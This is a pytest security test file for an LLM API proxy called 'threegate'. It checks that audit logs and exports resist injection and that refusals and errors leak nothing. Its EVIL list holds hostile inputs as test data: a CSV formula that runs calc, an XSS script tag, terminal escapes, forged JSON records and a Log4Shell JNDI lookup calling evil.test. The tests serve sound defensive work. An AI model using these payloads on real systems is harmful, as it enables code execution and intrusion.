"""What a client writes stays data: one line in the log, no formula in a table, and no word of it, of
a list or of our inside in a refusal."""

from __future__ import annotations

import csv
import json
import logging
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.e2e.support.running import ROOT, Running, proxy
from tests.security.conftest import Watched
from tests.security.raw import CHAT, ask

EVIL = (
    "=cmd|'/c calc'!A1",
    "+1+1\n@SUM(A1)",
    'x"}\n{"stage":"completed","forged":true}',
    "a\r\nb\x1b[31m\x1b]0;t\x07",
    "\u202egnp.exe\u2066",
    "</script><script>alert(1)</script>",
    "\u2028\u2029\x85",
    "{{7*7}}${jndi:ldap://evil.test/a}",
)


def post(running: Running, body: dict[str, Any], **headers: str) -> httpx.Response:
    return httpx.post(f"{running.url}{CHAT}", json=body, headers=headers, timeout=120)


def exported(running: Running, form: str, to: Path) -> Path:
    """By the program, as an operator would."""
    var = running.var
    command = [
        sys.executable,
        "-m",
        "threegate",
        "audit",
        "export",
        str(to),
        "--format",
        form,
        "--reason",
        "t",
    ]
    where = ["--database", f"sqlite:///{var / 'audit.sqlite3'}", "--directory", str(var / "audit")]
    made = subprocess.run([*command, *where], cwd=ROOT, capture_output=True, text=True, check=False)
    assert made.returncode == 0, made.stderr
    return to


def test_no_text_of_a_client_breaks_out_of_the_log(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    with proxy(tmp_path / "var") as running:
        sent = []
        for evil in EVIL:
            plain = "".join(c for c in evil if " " <= c <= "~")
            reply = post(
                running,
                ask(
                    evil,
                    model=evil if evil.strip() else f"r1{evil}",
                    user=evil,
                    metadata={"a": evil},
                ),
                traceparent=plain,
                **{"x-conversation-id": plain, "user-agent": plain},
            )
            assert reply.status_code == 200, reply.text
            sent.append(reply.headers["x-threegate-request-id"])
        for form in ("jsonl", "csv"):
            exported(running, form, tmp_path / form)
    lines = (tmp_path / "jsonl" / "records.jsonl").read_bytes().split(b"\n")
    records = [json.loads(line) for line in lines if line]
    assert len(lines) == len(records) + 1
    requests = [r["entry"]["event"].get("request") for r in records]
    assert sorted(r for r in requests if r and r.startswith("tg_")) == sorted(sent)
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", b"".join(lines))
    with (tmp_path / "csv" / "records.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert sum(any(cell in sent for cell in row) for row in rows) == len(sent)
    assert any("cmd|" in cell for row in rows for cell in row)
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@", "\t", "\r"))]
    for evil in EVIL:
        assert evil not in caplog.text


PACK = """\
pack: words
title: {zh: 词表, en: Words}
version: '1'
lists:
  hidden: {file: lists/hidden.txt, match: word}
rules:
  - id: words.hidden
    title: {zh: 拦截, en: Block}
    owner: test
    why: [house.business]
    layer: input
    where: [user]
    detect: {any: [list.hidden]}
    then: {block: {}}
    tests: {match: ["tell me about quokkafish"], no_match: ["go"]}
    review_by: 2027-06-30
  - id: words.answer
    title: {zh: 拦截回答, en: Block answers}
    owner: test
    why: [house.business]
    layer: output
    where: [content]
    detect: {any: [list.hidden]}
    then: {block: {}}
    tests: {match: ["this is quokkafish"], no_match: ["go"]}
    review_by: 2027-06-30
"""
WORDS = ("quokkafish", "zebrafinch plan", "红灯笼计划", "青石板行动", "heliotropeium")


@pytest.fixture(scope="module")
def listed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    root = tmp_path_factory.mktemp("words")
    (root / "policies/packs").mkdir(parents=True)
    (root / "policies/lists").mkdir()
    (root / "policies/packs/words.yaml").write_text(PACK, "utf-8")
    (root / "policies/lists/hidden.txt").write_text("\n".join(WORDS), "utf-8")
    with proxy(root / "var", root / "policies", packs=("words",)) as running:
        yield running


VARIES = re.compile(r"(tg|dec)_[0-9a-f]{32}|\"created\":\d+")


def alike(reply: httpx.Response) -> str:
    """A refusal without the ids and the time."""
    names = ("content-type", "content-length", "x-threegate-policy")
    return (
        f"{reply.status_code} {[reply.headers.get(n) for n in names]} {VARIES.sub('', reply.text)}"
    )


@pytest.mark.parametrize("stream", [False, True])
def test_a_block_tells_nothing_about_the_word(listed: Running, stream: bool) -> None:
    asked = [post(listed, ask(f"tell me about {word} now", stream=stream)) for word in WORDS]
    said = {alike(reply) for reply in asked}
    assert len(said) == 1
    assert "content_filter" in asked[0].text
    for reply in asked:
        assert not [w for w in (*WORDS, "hidden.txt", "list.hidden", "about") if w in reply.text]


def test_a_blocked_answer_tells_nothing_about_the_word(listed: Running) -> None:
    said = set()
    for word in WORDS:
        choice = {
            "index": 0,
            "message": {"role": "assistant", "content": f"It is {word}."},
            "finish_reason": "stop",
        }
        body = {"id": "c", "object": "chat.completion", "created": 1, "model": "m"}
        made = json.dumps({**body, "choices": [choice]}, ensure_ascii=False).encode()
        listed.demo.play([made], media_type="application/json")
        reply = post(listed, ask("what is it?"))
        assert "content_filter" in reply.text
        assert word not in reply.text
        said.add(alike(reply))
    assert len(said) == 1


CANARY = "canary-words-83af"
REFUSED: dict[str, tuple[str, bytes]] = {
    "syntax": (CHAT, f'{{"model": "{CANARY}'.encode()),
    "shape": (CHAT, json.dumps({"model": "m", "messages": CANARY}).encode()),
    "clamp": (CHAT, json.dumps(ask(CANARY, temperature=CANARY)).encode()),
    "denied": (CHAT, json.dumps(ask(CANARY, chat_template=CANARY)).encode()),
    "tokens": ("/v1/completions", b'{"model":"m","prompt":[[1,2]]}'),
    "surrogate": (CHAT, b'{"model":"' + CANARY.encode() + b'\\ud800"}'),
    "path": ("/v1/" + CANARY, b"{}"),
    "method": ("/v1/models", CANARY.encode()),
    "status": (CHAT, json.dumps(ask(f"[demo: status=500] {CANARY}")).encode()),
    "garbage": (CHAT, json.dumps(ask(f"[demo: garbage] {CANARY}")).encode()),
    "redirect": (CHAT, json.dumps(ask(f"[demo: redirect] {CANARY}")).encode()),
    "bomb": (CHAT, json.dumps(ask(f"[demo: bomb] {CANARY}")).encode()),
    "messages": ("/v1/messages", json.dumps({"model": 5, "messages": CANARY}).encode()),
    "responses": ("/v1/responses", json.dumps({"model": 5, "input": CANARY}).encode()),
}


@pytest.mark.parametrize("name", REFUSED)
def test_an_error_tells_nothing_of_the_text_or_of_our_inside(
    guarded: Running, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "threegate")
    path, body = REFUSED[name]
    reply = httpx.post(f"{guarded.url}{path}", content=body, timeout=120)
    assert reply.status_code >= 400
    inside = (CANARY, "Traceback", ".py", "127.0.0.1", str(guarded.var), "httpx", "aiohttp")
    port = str(urlsplit(guarded.deps.settings.upstreams[0].url).port)
    assert not [w for w in (*inside, port) if w in reply.text + str(dict(reply.headers))]
    assert CANARY not in caplog.text


def test_an_error_page_in_front_of_the_model_is_not_handed_on(
    guarded: Running, watched: Watched
) -> None:
    page = b"<html><h1>502 Bad Gateway</h1>nginx/1.27 upstream 10.0.0.7:8000</html>"
    watched.demo.play([page], status=502, media_type="text/html")
    reply = post(guarded, ask("hello"))
    assert reply.status_code == 502
    assert reply.json()["error"]["message"] == "the model API answered with status 502"
    assert "10.0.0.7" not in reply.text
    assert reply.headers["content-type"] == "application/json"


@pytest.mark.parametrize("kind", ["text/html", "text/plain; charset=utf-16"])
def test_an_answer_is_read_as_what_was_guarded(
    guarded: Running, watched: Watched, kind: str
) -> None:
    """No browser takes its text for markup, and no client for another encoding."""
    message = {"role": "assistant", "content": "<script>a()</script>"}
    choice = {"index": 0, "message": message, "finish_reason": "stop"}
    watched.demo.play([json.dumps({"id": "c", "choices": [choice]}).encode()], media_type=kind)
    reply = post(guarded, ask("hello"))
    assert reply.status_code == 200
    assert reply.headers["content-type"] == "application/json"


@pytest.mark.parametrize("status", [201, 203, 226])
def test_a_success_by_another_number_is_guarded_too(
    guarded: Running, watched: Watched, status: int
) -> None:
    key = "sk-4f9a1c7e2b8d4a6f9c3e5b7d1a2f8c6e"
    choice = {"index": 0, "message": {"role": "assistant", "content": f"It is {key}."}}
    made = json.dumps({"id": "c", "choices": [{**choice, "finish_reason": "stop"}]}).encode()
    watched.demo.play([made], status=status, media_type="application/json")
    reply = post(guarded, ask("hello"))
    assert reply.status_code == 200
    assert "[secret removed]" in reply.text
    assert key not in reply.text
